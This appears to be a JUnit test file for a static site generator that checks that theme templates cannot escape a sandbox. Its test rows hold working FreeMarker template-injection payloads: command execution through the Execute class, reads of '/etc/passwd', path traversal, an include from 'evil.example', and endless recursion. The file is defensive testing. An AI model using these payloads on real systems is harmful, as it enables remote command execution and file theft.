package pamphlet.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Templates are trusted, and still cannot run programs, read files or keep a build busy. */
class TemplateAttackTest {
  private static final String EXECUTE = "'freemarker.template.utility.Execute'";

  @TempDir private Path folder;

  /**
   * A page of the theme that does harm in its second line.
   *
   * @param name what it is
   * @param template the second line
   * @param code what is told
   */
  record Door(String name, String template, String code) implements Row {
    @Override
    public List<String> codes() {
      return List.of(code);
    }

    @Override
    public String toString() {
      return name;
    }
  }

  static Stream<Door> rows() {
    return Stream.of(
        new Door("?new", "${" + EXECUTE + "?new()('id')}", "TP004"),
        new Door("?new in a macro's parameter", "<#assign x = " + EXECUTE + " ? new>", "TP004"),
        new Door("?api", "${home?api.class}", "TP004"),
        new Door("?eval", "${'1+1'?eval}", "TP004"),
        new Door("?interpret", "<@('${1}'?interpret)/>", "TP004"),
        new Door("?no_esc", "${'<script>'?no_esc}", "TP004"),
        new Door("another output format", "<#ftl output_format='plainText'>", "TP004"),
        new Door("the time", "${.now}", "TP004"),
        new Door("a Java method", "${site.getClass()}", "TP002"),
        new Door("include outside", "<#include '../../outside/secret.ftlh'>", "TP001"),
        new Door("include of an absolute path", "<#include '/etc/passwd'>", "TP001"),
        new Door("include of an address", "<#include 'https://evil.example/a.ftlh'>", "TP001"),
        new Door("import outside", "<#import '../secret.ftlh' as s>", "TP001"),
        new Door("include as text", "<#include '../../outside/secret.ftlh' parse=false>", "TP001"),
        new Door("macro that calls itself", "<#macro m><@m/></#macro><@m/>", "TP008"),
        new Door("template that includes itself", "<#include 'not-found.ftlh'>", "TP008"),
        new Door(
            "page without end", "<#list 1.. as n>" + "endless ".repeat(500) + "</#list>", "TP008"),
        new Door("missing variable", "${nothing.here}", "TP002"),
        new Door("missing word", "${msg('no.such.word')}", "TP003"),
        new Door("syntax error", "<#if>", "TP005"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("rows")
  void isToldWithFileAndLine(Door row) throws IOException {
    HostileSite site = HostileSite.below(folder);
    site.put("templates/not-found.ftlh", "<p>\n" + row.template());
    HostileSite.Run run = site.build();
    assertThat(run.code()).as(run.err()).isEqualTo(3);
    assertThat(run.codes()).as(run.err()).containsExactly(row.code());
    assertThat(run.err()).contains("templates/not-found.ftlh:2:");
    assertThat(run.out() + run.err()).doesNotContain("uid=");
  }

  @Test
  void templateThatIsALinkOutsideIsRefused() throws IOException {
    HostileSite site = HostileSite.below(folder);
    Path link = site.put("templates/a.txt", "a").root().resolve("templates/not-found.ftlh");
    Files.createSymbolicLink(link, site.outside().resolve("secret.ftlh"));
    assertThat(site.build().codes()).containsExactly("TP007");
  }

  @Test
  void contentIsNeverATemplate() throws IOException {
    HostileSite site = HostileSite.below(folder);
    site.body("${1+1} <#include 'layout.ftlh'> [=2+2] \\${'x'?api}");
    site.build();
    assertThat(Files.readString(site.output().resolve("attack.html")))
        .contains("${1+1} &lt;#include 'layout.ftlh'&gt; [=2+2] ${'x'?api}");
  }
}
